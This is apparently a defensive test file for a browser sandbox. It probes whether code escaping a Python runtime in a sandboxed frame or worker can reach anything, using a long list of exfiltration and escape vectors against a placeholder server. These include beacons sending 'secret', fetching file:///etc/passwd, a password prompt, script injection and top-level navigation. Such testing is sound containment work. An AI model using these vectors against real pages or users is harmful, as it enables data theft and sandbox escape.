// promise: code in the sandbox frame or in its worker that has broken out of Python reaches nothing either

// Runs where our script should, under our policy. Each attack returns what it has reached, if anything.

// Nothing connects to the first address. At the second one browsers may knock: see SECURITY.md.
const url = "{server}";
const knocked = "{knocked}";
const inDocument = {
  origin: () => origin !== "null" && origin,
  address_of_the_page: () => document.referrer,
  cookies: () => document.cookie || ((document.cookie = "a=1"), document.cookie),
  local_storage: () => localStorage.length + 1,
  session_storage: () => sessionStorage.length + 1,
  the_page: () => top.document.title,
  the_fence: () => parent.document.title,
  element_that_holds_it: () => frameElement,
  functions_from_text: () => new Function("return 1")(),
  timer_from_text: () => within((done) => (globalThis.done = done, setTimeout("done(true)"))),
  script_element: () => within((done) => append("script", { text: "done(true)" }, (globalThis.done = done))),
  script_from_the_server: () => loads("script", { src: url }),
  script_from_a_blob: () => loads("script", { src: blob("0") }),
  script_from_data: () => loads("script", { src: "data:text/javascript,0" }),
  module_from_the_server: () => import(url),
  module_from_a_blob: () => import(blob("export default 1")),
  markup_with_a_handler: () => within((done) => {
    globalThis.done = done;
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='done(true)'>");
  }),
  address_that_is_a_script: () => within((done) => {
    globalThis.done = done;
    append("a", { href: "javascript:done(true)" }).click();
  }),
  image: () => loads("img", { src: url }),
  image_from_data: () => loads("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }),
  style_sheet: () => loads("link", { rel: "stylesheet", href: url }),
  preload: () => loads("link", { rel: "preload", as: "image", href: url }),
  prefetch: () => loads("link", { rel: "prefetch", href: url }),
  module_preload: () => loads("link", { rel: "modulepreload", href: url }),
  icon: () => loads("link", { rel: "icon", href: url }),
  manifest: () => loads("link", { rel: "manifest", href: url }),
  style: () => append("p", { style: `background: url(${url})` }) && wait(),
  font: () => new FontFace("x", `url(${url})`).load(),
  video: () => loads("video", { src: url }),
  object: () => loads("object", { data: url }),
  embed: () => loads("embed", { src: url }),
  beacon: () => void navigator.sendBeacon(url, "secret"),
  link_with_a_ping: () => void append("a", { href: "about:srcdoc#x", ping: url }).click(),
  frame_with_a_script: () => within((done) => {
    addEventListener("message", ({ data }) => data === "inside" && done(true));
    append("iframe", { srcdoc: "<script>parent.postMessage('inside', '*')<\/script>" });
  }),
  window_of_its_own: () => open(url),
  link_to_a_window: () => void append("a", { href: url, target: "_blank" }).click(),
  link_to_the_top: () => void append("a", { href: url, target: "_top" }).click(),
  form: () => void append("form", { action: url, method: "post" }).submit(),
  form_to_a_window: () => void append("form", { action: url, target: "_blank" }).submit(),
  navigation_of_the_top: () => void (top.location = url),
  navigation_of_the_fence: () => void (parent.location = url),
  download: () => void append("a", { href: "data:text/plain,x", download: "x.txt" }).click(),
  base: () => append("base", { href: url }) && document.baseURI === url,
  confirmation: () => confirm("Are you there?"),
  question: () => prompt("Your password?"),
  full_screen: () => document.documentElement.requestFullscreen(),
  pointer: () => within((done) => {
    document.addEventListener("pointerlockchange", () => done(true));
    return document.documentElement.requestPointerLock();
  }),
  place: () => within((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  screen: () => navigator.mediaDevices.getDisplayMedia(),
  clipboard: () => navigator.clipboard.readText(),
  clipboard_written: () => navigator.clipboard.writeText("secret").then(() => true),
  notification: async () => (await Notification.requestPermission()) === "granted",
  credentials: () => navigator.credentials.get({ password: true }),
  payment: () => new PaymentRequest([{ supportedMethods: "basic-card" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show(),
  share: () => navigator.share({ title: "x" }),
  lock: () => navigator.wakeLock.request("screen"),
  storage_access: () => document.requestStorageAccess().then(() => true),
  service_worker: () => navigator.serviceWorker.register(url),
  shared_worker_of_the_server: () => loads(new SharedWorker(url)),
  worker_of_the_server: () => loads(new Worker(url)),
};

/** These do not disturb each other, so they attack at the same time. */
const inDocumentTogether = {
  name_lookup: () => loads("link", { rel: "dns-prefetch", href: url }),
  prerender: () => loads("link", { rel: "prerender", href: url }),
  dictionary: () => loads("link", { rel: "compression-dictionary", href: url }),
  payment_of_the_page: () => loads("link", { rel: "monetization", href: url }),
  speculation: () => loads("script", { type: "speculationrules", text: `{"prefetch": [{"urls": ["${url}"], "eagerness": "immediate"}], "prerender": [{"urls": ["${url}"]}]}` }),
  map_of_modules: () => append("script", { type: "importmap", text: `{"imports": {"x": "${url}"}}` }) && import("x"),
  bundle: () => loads("script", { type: "webbundle", text: `{"source": "${url}", "resources": ["${url}x"]}` }),
  module_of_data: () => import("data:text/javascript,export default 1"),
  style_as_a_module: () => import(url, { with: { type: "css" } }),
  image_with_candidates: () => loads("img", { srcset: `${url} 1x, ${url}2 2x`, sizes: "1px" }),
  image_of_a_picture: () => void inserted(`<picture><source srcset="${url}"><img></picture>`),
  image_that_is_decoded: () => Object.assign(new Image(), { src: url }).decode().then(() => true),
  image_of_an_input: () => loads("input", { type: "image", src: url }),
  image_of_a_table: () => void inserted(`<table background="${url}"><td background="${url}"></table>`),
  poster: () => loads("video", { poster: url, preload: "auto" }),
  sound: () => new Audio(url).play().then(() => true),
  subtitles: () => void inserted(`<video><track src="${url}" default kind=subtitles></video>`),
  source_of_a_video: () => void inserted(`<video autoplay muted><source src="${url}"></video>`),
  applet: () => void inserted(`<applet archive="${url}" code="${url}" codebase="${url}"></applet>`),
  portal: () => loads("portal", { src: url }),
  fenced_frame: () => loads("fencedframe", { src: url, config: self.FencedFrameConfig && new FencedFrameConfig(url) }),
  object_that_is_a_script: () => called((code) => append("object", { data: `javascript:parent.${code}` })),
  drawing_image: () => void inserted(`<svg><image href="${url}"/><image xlink:href="${url}"/></svg>`),
  drawing_use: () => void inserted(`<svg><use href="${url}#a"/></svg>`),
  drawing_filter: () => void inserted(`<svg><filter id=f><feImage href="${url}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`),
  drawing_paint: () => void inserted(`<svg><rect fill="url(${url}#a)" mask="url(${url}#a)" clip-path="url(${url}#a)" marker-end="url(${url}#a)"/></svg>`),
  drawing_script: () => void inserted(`<svg><script href="${url}"><\/script></svg>`),
  drawing_that_moves: () => called((code) => inserted(`<svg><set attributeName=href to="${url}" onbegin="${code}"/><animate attributeName=x onbegin="${code}" dur=1s /></svg>`)),
  drawing_of_a_page: () => void inserted(`<svg><foreignObject width=9 height=9><img src="${url}"></foreignObject></svg>`),
  formula: () => void inserted(`<math><maction actiontype="statusline#${url}" xlink:href="${url}" href="${url}"><mi>x</mi></maction><mglyph src="${url}"/></math>`),
  style_element: () => void inserted(`<style>@import "${url}"; * { background: url(${url}) }</style>`),
  constructed_style: () => adopted(`* { background-image: url(${url}); cursor: url(${url}), auto }`),
  constructed_font: () => adopted(`@font-face { font-family: a; src: url(${url}) } * { font-family: a }`),
  constructed_import: () => adopted(`@import url(${url});`),
  property_of_every_kind: () => {
    const { style } = append("p", {});
    for (const name of ["background", "borderImage", "listStyleImage", "cursor", "content", "maskImage", "clipPath", "filter", "backdropFilter", "shapeOutside", "offsetPath"]) {
      style[name] = `url(${url})`;
    }
    style.setProperty("--x", `url(${url})`);
    style.webkitMaskBoxImage = `image-set(url(${url}) 1x)`;
    return wait();
  },
  worklet_for_painting: () => CSS.paintWorklet.addModule(url).then(() => true),
  worklet_for_sound: () => new AudioContext().audioWorklet.addModule(url).then(() => true),
  worklet_for_storage: () => sharedStorage.worklet.addModule(url).then(() => true),
  transformation: () => {
    const text = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="${url}"/><x:template match="/"><x:value-of select="document('${url}')"/></x:template></x:stylesheet>`;
    const processor = new XSLTProcessor();
    processor.importStylesheet(new DOMParser().parseFromString(text, "text/xml"));
    return processor.transformToFragment(document, document).textContent;
  },
  document_with_an_entity: () => {
    const text = `<?xml-stylesheet href="${url}"?><!DOCTYPE x [<!ENTITY y SYSTEM "${url}">]><x>&y;</x>`;
    return new DOMParser().parseFromString(text, "text/xml").documentElement.textContent.includes("secret");
  },
  document_that_is_written: () => called((code) => inserted("<iframe></iframe>") && frames[frames.length - 1].document.write(`<script>parent.${code}<\/script>`)),
  attribute_that_is_a_script: () => called((code) => {
    const element = append("p", {});
    element.setAttribute("onclick", code);
    element.click();
  }),
  fragment_with_a_script: () => called((code) => document.body.append(document.createRange().createContextualFragment(`<script>${code}<\/script>`))),
  shadow_with_a_script: () => called((code) => append("div", {}).attachShadow({ mode: "open" }).setHTMLUnsafe(`<img src=x onerror="${code}">`)),
  script_with_the_nonce: () => called((code) => append("script", { nonce: document.scripts[0].nonce || "x", text: code })),
  generator_from_text: () => Object.getPrototypeOf(function* () {}).constructor("yield 1")().next().value,
  promise_from_text: () => Object.getPrototypeOf(async () => {}).constructor("return 1")(),
  policy_of_its_own: () => trustedTypes.createPolicy("other", { createScript: (text) => text }),
  worker_of_data: () => heard(new Worker("data:text/javascript,postMessage(1)")),
  module_worker_of_the_server: () => heard(new Worker(url, { type: "module" })),
  module_worker_that_imports: () => heard(new Worker(blob(`import "${url}"; postMessage(1)`), { type: "module" })),
  shared_worker_of_a_blob: () => heard(new SharedWorker(blob(`onconnect = ({ ports: [port] }) => port.postMessage(1)`)).port),
  service_worker_of_a_blob: () => navigator.serviceWorker.register(blob("0")),
  service_worker_of_the_site: () => navigator.serviceWorker.register(new URL("service-worker.js", document.baseURI)),
  later: () => fetchLater(url, { method: "POST", body: "secret", activateAfter: 0 }) && wait(),
  beacon_of_many_kinds: () => [new Blob(["x"]), new FormData(), new URLSearchParams("x=1"), new ArrayBuffer(1)].forEach((body) => navigator.sendBeacon(url, body)),
  area_with_a_ping: () => void append("area", { href: "about:srcdoc#x", ping: url }).click(),
  report_of_the_policy: () => append("meta", { httpEquiv: "Content-Security-Policy", content: `img-src 'none'; report-uri ${url}; report-to x` }) && loads("img", { src: url }),
  report_to_an_endpoint: () => append("meta", { httpEquiv: "Reporting-Endpoints", content: `default="${url}"` }) && void queueMicrotask(() => Promise.reject(new Error("secret"))),
  attribution: () => loads("img", { attributionsrc: url, src: "data:," }) || void append("a", { href: "#", attributionsrc: url }).click(),
  cookie_by_an_element: () => append("meta", { httpEquiv: "Set-Cookie", content: "a=1" }) && document.cookie,
  tunnels_of_calls: () => {
    for (const name of ["RTCIceTransport", "RTCDtlsTransport", "RTCSctpTransport", "RTCDataChannel", "RTCRtpSender", "RTCQuicTransport"]) {
      try {
        return new self[name]();
      } catch {}
    }
  },
  calls_of_a_frame_inside: () => inserted("<iframe></iframe>") && frames[frames.length - 1].RTCPeerConnection,
  calls_of_a_frame_with_text: () => inserted(`<iframe srcdoc="x"></iframe>`) && frames[frames.length - 1].RTCPeerConnection,
  fetch_of_a_frame_inside: () => inserted("<iframe></iframe>") && frames[frames.length - 1].fetch(url),
  frame_of_a_script: () => called((code) => append("iframe", { src: `javascript:parent.${code}` })),
  frame_of_data: () => told(() => append("iframe", { src: "data:text/html,<script>parent.postMessage('inside', '*')<\/script>" })),
  frame_of_a_blob: () => told(() => append("iframe", { src: blob("<script>parent.postMessage('inside', '*')<\/script>", "text/html") })),
  frame_with_a_weaker_sandbox: () => told(() => append("iframe", { sandbox: "allow-scripts allow-same-origin allow-popups allow-top-navigation", srcdoc: "<script>parent.postMessage('inside', '*')<\/script>" })),
  frame_with_a_handler: () => told(() => append("iframe", { srcdoc: "<img src=x onerror=\"parent.postMessage('inside', '*')\">" })),
  window_of_a_script: () => called((code) => open(`javascript:opener.${code}`)),
  window_without_an_opener: () => open(url, "_blank", "noopener,popup"),
  window_of_that_name: () => open(url, "x") || open("about:blank", "y"),
  button_to_a_window: () => void inserted(`<form target=_blank><button formaction="${url}" formmethod=post formtarget=_blank>x</button></form>`).querySelector("button").click(),
  form_to_the_fence: () => void append("form", { action: url, target: "_parent" }).requestSubmit(),
  form_to_the_top: () => void append("form", { action: url, target: "_top" }).submit(),
  form_to_a_dialog: () => void inserted(`<dialog open><form method=dialog action="${url}"><button formaction="${url}">x</button></form></dialog>`).querySelector("button").click(),
  base_of_targets: () => append("base", { target: "_top" }) && void append("a", { href: url }).click(),
  top_that_is_closed: () => void top.close(),
  top_that_is_replaced: () => void top.location.replace(url),
  fence_that_is_replaced: () => void parent.location.replace(url),
  frame_of_another_name: () => void open(url, "_parent") || void open(url, "_top"),
  origin_by_domain: () => (document.domain = location.hostname || "127.0.0.1") && document.domain,
  message_to_the_fence: () => parent.postMessage({ type: "connect" }, "*", [new MessageChannel().port1]),
  messages_to_the_page: () => Array.from({ length: 2000 }, () => top.postMessage({ type: "ready", flood: "x".repeat(1000) }, "*")) && false,
  broadcast: () => void new BroadcastChannel("test").postMessage("secret"),
  cookie_store: () => cookieStore.set("a", "1").then(() => true),
  buckets: () => navigator.storageBuckets.open("x"),
  old_data_base: () => openDatabase("x", "1", "x", 1),
  old_file_system: () => within((done, fail) => webkitRequestFileSystem(0, 1024, done, fail)),
  shared_storage: () => sharedStorage.set("a", "1").then(() => true),
  topics: () => document.browsingTopics().then((topics) => topics.length),
  interest_group: () => void navigator.joinAdInterestGroup({ owner: url, name: "x", updateURL: url }, 100),
  auction: () => navigator.runAdAuction({ seller: url, decisionLogicURL: url, interestGroupBuyers: [url] }),
  files_that_are_picked: () => showOpenFilePicker(),
  file_that_is_saved: () => showSaveFilePicker(),
  folder_that_is_picked: () => showDirectoryPicker(),
  file_of_an_input: () => append("input", { type: "file" }).showPicker() ?? true,
  colour_of_an_input: () => append("input", { type: "color" }).showPicker() ?? true,
  colour_of_the_screen: () => new EyeDropper().open(),
  contacts: () => navigator.contacts.select(["name"]),
  bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
  usb: () => navigator.usb.requestDevice({ filters: [] }),
  serial: () => navigator.serial.requestPort(),
  hid: () => navigator.hid.requestDevice({ filters: [] }),
  midi: () => navigator.requestMIDIAccess(),
  tags: () => new NDEFReader().scan().then(() => true),
  motion: () => within((done) => [new Accelerometer(), new Gyroscope()].forEach((sensor) => (Object.assign(sensor, { onreading: done }), sensor.start()))),
  idleness: async () => (await IdleDetector.requestPermission()) === "granted",
  pressure: () => new PressureObserver(() => {}).observe("cpu").then(() => true),
  fonts_of_the_machine: async () => (await queryLocalFonts()).length,
  screens: () => getScreenDetails(),
  reality: () => navigator.xr.requestSession("immersive-vr"),
  permissions_of_every_frame: () => document.featurePolicy?.allowedFeatures().join(" "),
  gamepads: () => navigator.getGamepads().some(Boolean),
  keys_of_the_keyboard: () => navigator.keyboard.lock().then(() => true),
  letters_of_the_keyboard: () => navigator.keyboard.getLayoutMap(),
  vibration: () => navigator.vibrate(100),
  speech: () => within((done) => speechSynthesis.speak(Object.assign(new SpeechSynthesisUtterance("x"), { onstart: done }))),
  listening: () => within((done) => Object.assign(new webkitSpeechRecognition(), { onaudiostart: done }).start()),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
  names_of_devices: async () => (await navigator.mediaDevices.enumerateDevices()).some(({ label }) => label),
  protected_media: () => navigator.requestMediaKeySystemAccess("com.widevine.alpha", [{ videoCapabilities: [{ contentType: "video/mp4" }] }]),
  tone: () => new AudioContext().resume().then(() => true),
  picture_in_picture: () => documentPictureInPicture.requestWindow(),
  presentation: () => new PresentationRequest([url]).start(),
  player_elsewhere: () => append("video", {}).remote.prompt().then(() => true),
  protocol: () => navigator.registerProtocolHandler("web+garter", `${url}?%s`) ?? true,
  installation: () => navigator.install(url),
  key_of_the_reader: () => navigator.credentials.create({ publicKey: { challenge: new Uint8Array(9), rp: { name: "x" }, user: { id: new Uint8Array(9), name: "x", displayName: "x" }, pubKeyCredParams: [{ type: "public-key", alg: -7 }] } }),
  identity: () => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "x" }] } }),
  code_of_a_message: () => navigator.credentials.get({ otp: { transport: ["sms"] } }),
  storage_access_for: () => document.requestStorageAccessFor(url).then(() => true),
  notification_at_once: () => within((done) => (new Notification("x").onshow = done)),
  model_of_language: () => LanguageModel.create(),
  orientation: () => screen.orientation.lock("portrait").then(() => true),
  printing: () => within((done) => (addEventListener("beforeprint", done), print())),
  alert: () => within((done) => {
    const began = performance.now();
    alert("x");
    if (performance.now() - began > 100) done(true);
  }),
  focus: () => (append("input", {}).focus(), document.hasFocus()),
  copying: () => (append("input", { value: "secret" }).select(), document.execCommand("copy")),
  pasting: () => (append("textarea", {}).focus(), document.execCommand("paste")),
};

/** Browsers open a connection for these, and send nothing in it. */
const knocking = {
  preconnect: () => loads("link", { rel: "preconnect", href: knocked }),
  frame_in_the_frame: () => void append("iframe", { src: knocked }),
  frame_of_a_set: () => void inserted(`<iframe srcdoc="<frameset><frame src='${knocked}'></frameset>"></iframe>`),
  frame_that_goes_on: () => void append("iframe", { srcdoc: `<meta http-equiv=refresh content="0; url=${knocked}">` }),
};

/** These end the document in Chromium, so there is one for each visit. */
const departures = {
  refresh: () => append("meta", { httpEquiv: "refresh", content: `0; url=${knocked}` }),
  link: () => append("a", { href: knocked }).click(),
  address: () => (location.href = knocked),
  address_of_data: () => (location.href = "data:text/html,x"),
  address_of_a_blob: () => (location.href = blob("x", "text/html")),
  form_to_itself: () => append("form", { action: url }).submit(),
  form_with_a_body: () => append("form", { action: url, method: "post" }).requestSubmit(),
  window_of_its_own_name: () => open(knocked, "_self"),
  address_in_a_drawing: () => inserted(`<svg><a href="${knocked}"><text>x</text></a></svg>`).querySelector("a").dispatchEvent(new MouseEvent("click")),
  navigation: () => self.navigation?.navigate(knocked),
  document_of_its_own: () => (document.open(), document.write(`<meta http-equiv=refresh content="0; url=${knocked}">`), document.close()),
  empty_address: () => (location.href = "about:blank"),
};

/** The same in the document and in a worker. */
const inBoth = {
  fetch: () => fetch(url),
  fetch_without_an_answer: () => fetch(url, { mode: "no-cors", method: "POST", body: "secret", keepalive: true }),
  fetch_of_data: () => fetch("data:,x"),
  request: () => within((done, fail) => {
    const request = new XMLHttpRequest();
    request.onload = done;
    request.onerror = fail;
    request.open("GET", url);
    request.send();
  }),
  request_that_blocks: () => {
    const request = new XMLHttpRequest();
    request.open("GET", url, false);
    request.send();
    return true;
  },
  web_socket: () => within((done, fail) => Object.assign(new WebSocket(url.replace("http", "ws")), { onopen: done, onerror: fail })),
  event_source: () => within((done, fail) => Object.assign(new EventSource(url), { onopen: done, onerror: fail })),
  web_transport: () => new WebTransport(url.replace("http", "https")).ready,
  text_as_code: () => (0, eval)("1"),
  data_base: () => within((done, fail) => Object.assign(indexedDB.open("x"), { onsuccess: done, onerror: fail })),
  caches: () => caches.open("x"),
  file_system: () => navigator.storage.getDirectory(),
  quota: async () => (await navigator.storage.persist()) === true,
  locks: () => navigator.locks.request("x", () => true),
};

const inWorker = {
  origin: () => self.origin !== "null" && self.origin,
  script_from_the_server: () => importScripts(url) ?? true,
  script_from_a_blob: () => importScripts(URL.createObjectURL(new Blob(["0"]))) ?? true,
  module_from_the_server: () => import(url),
  worker_in_the_worker: () => within((done) => {
    const code = `fetch("${url}").then(() => postMessage(1), () => {})`;
    new Worker(URL.createObjectURL(new Blob([code]))).onmessage = done;
  }),
  connections: () => new RTCPeerConnection(),
  windows: () => open(url),
  dialogs: () => confirm("?"),
};

const inBothTogether = {
  web_socket_as_a_stream: () => new WebSocketStream(url.replace("http", "ws")).opened,
  sockets: () => new TCPSocket("127.0.0.1", 80).opened,
  fetch_that_streams: () => fetch(url, { method: "POST", body: new Blob(["secret"]).stream(), duplex: "half" }),
  fetch_by_a_request: () => fetch(new Request(url, { mode: "no-cors", credentials: "include", cache: "force-cache", priority: "high" })),
  fetch_of_every_kind: async () => {
    for (const address of ["file:///etc/passwd", "ftp://127.0.0.1/", "chrome://version", "moz-icon://x", "resource://gre/", "filesystem:null/temporary/x", "//127.0.0.1/"]) {
      if (await fetch(address, { mode: "no-cors" }).catch(() => false)) return true;
    }
  },
  fetch_of_a_blob: () => fetch(blob("x")),
  fetch_of_the_site: () => fetch(new URL("garter.js", self.document?.baseURI ?? location.href)),
  module_while_it_arrives: () => WebAssembly.compileStreaming(fetch(url)),
  font_that_is_added: () => new FontFace("y", `url(${url})`).load(),
  broadcast_to_the_page: () => void new BroadcastChannel("test").postMessage("secret"),
  data_bases: () => indexedDB.databases().then(() => true),
  permissions: async () => {
    for (const name of ["geolocation", "notifications", "camera", "microphone", "clipboard-read", "midi", "persistent-storage", "storage-access", "local-fonts", "idle-detection"]) {
      const status = await navigator.permissions.query({ name }).catch(() => null);
      if (status?.state === "granted") return name;
    }
  },
  devices_of_before: async () => {
    for (const name of ["usb", "serial", "hid", "bluetooth"]) {
      const found = await (navigator[name]?.getDevices ?? navigator[name]?.getPorts)?.call(navigator[name]).catch(() => []);
      if (found?.length) return name;
    }
  },
};

const inWorkerTogether = {
  module_of_data: () => import("data:text/javascript,export default 1"),
  script_from_data: () => importScripts("data:text/javascript,0") ?? true,
  worker_of_data: () => heard(new Worker("data:text/javascript,postMessage(1)")),
  worker_of_the_server: () => heard(new Worker(url)),
  module_worker_that_imports: () => heard(new Worker(blob(`import "${url}"; postMessage(1)`), { type: "module" })),
  timer_from_text: () => within((done) => (self.finish = done, setTimeout("finish(true)"))),
  function_from_text: () => new Function("return 1")(),
  notification: () => within((done) => (new Notification("x").onshow = done)),
  fetch_in_a_worker_of_the_worker: () => heard(new Worker(blob(`new WebSocket("${url.replace("http", "ws")}").onopen = () => postMessage(1); navigator.sendBeacon?.("${url}", "secret")`))),
};

/** How long an attack may take to reach something. */
let patienceMs = 150;

/** @returns {Promise<unknown>} what the attack reaches within a moment */
function within(attack) {
  return new Promise((resolve, reject) => {
    setTimeout(resolve, patienceMs);
    attack(resolve, reject);
  });
}

const wait = () => within(() => {});

async function reached(attack) {
  try {
    // A permission that nobody is asked for may stay open for ever.
    return Boolean(await Promise.race([attack(), within(() => {})]));
  } catch {
    return false;
  }
}

async function report(attacks) {
  const names = [];
  for (const [name, attack] of Object.entries(attacks)) if (await reached(attack)) names.push(name);
  return names;
}

/** Attacks with all of them at once. */
async function reportTogether(attacks) {
  patienceMs = 600;
  const found = Object.entries(attacks).map(async ([name, attack]) => (await reached(attack)) && name);
  return (await Promise.all(found)).filter(Boolean);
}

function blob(text, type = "text/javascript") {
  return URL.createObjectURL(new Blob([text], { type }));
}

function append(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  for (const [name, value] of Object.entries(attributes)) if (typeof value === "string" && name !== "text" && name !== "srcdoc") element.setAttribute(name, value);
  document.body.append(element);
  return element;
}

function inserted(html) {
  const element = append("div", {});
  element.innerHTML = html;
  return element;
}

function adopted(css) {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(css);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  return wait();
}

let calls = 0;
/** Whether text becomes code: `attack` gets text that would be heard of. */
const called = (attack) => within((done) => {
  const name = `called${++calls}`;
  self[name] = () => done(true);
  attack(`${name}()`);
});

/** Whether a frame inside says something. */
const told = (attack) => within((done) => {
  const element = attack();
  addEventListener("message", ({ source }) => source === element.contentWindow && done(true));
});

/** Whether a worker says something. */
const heard = (worker) => within((done) => (worker.onmessage = () => done(true)));

const loads = (what, attributes) => within((done, fail) => {
  const element = typeof what === "string" ? append(what, attributes) : what;
  element.onload = element.onmessage = () => done(true);
  element.onerror = fail;
});

if (self.document) {
  const asItIs = (text) => text;
  self.trustedTypes?.createPolicy("default", { createHTML: asItIs, createScript: asItIs, createScriptURL: asItIs });
  addEventListener("message", async ({ ports: [port] }) => {
    if (!port) return;
    const departure = departures["{departure}"];
    if (departure) {
      port.postMessage({ type: "ready", capabilities: { waiting: "replay" } });
      departure();
      return;
    }
    const code = [...document.scripts].at(-1).textContent;
    const worker = new Worker(blob(code));
    const ofWorker = await new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = ({ message }) => resolve([`no worker: ${message}`]);
    });
    const ofDocument = await report({ ...inBoth, ...inDocument });
    ofDocument.push(...(await reportTogether({ ...inBothTogether, ...inDocumentTogether, ...knocking })));
    port.postMessage({ type: "broken", message: JSON.stringify({ document: ofDocument, worker: ofWorker }) });
  });
} else {
  report({ ...inBoth, ...inWorker }).then(async (names) => {
    postMessage([...names, ...(await reportTogether({ ...inBothTogether, ...inWorkerTogether }))]);
  });
}
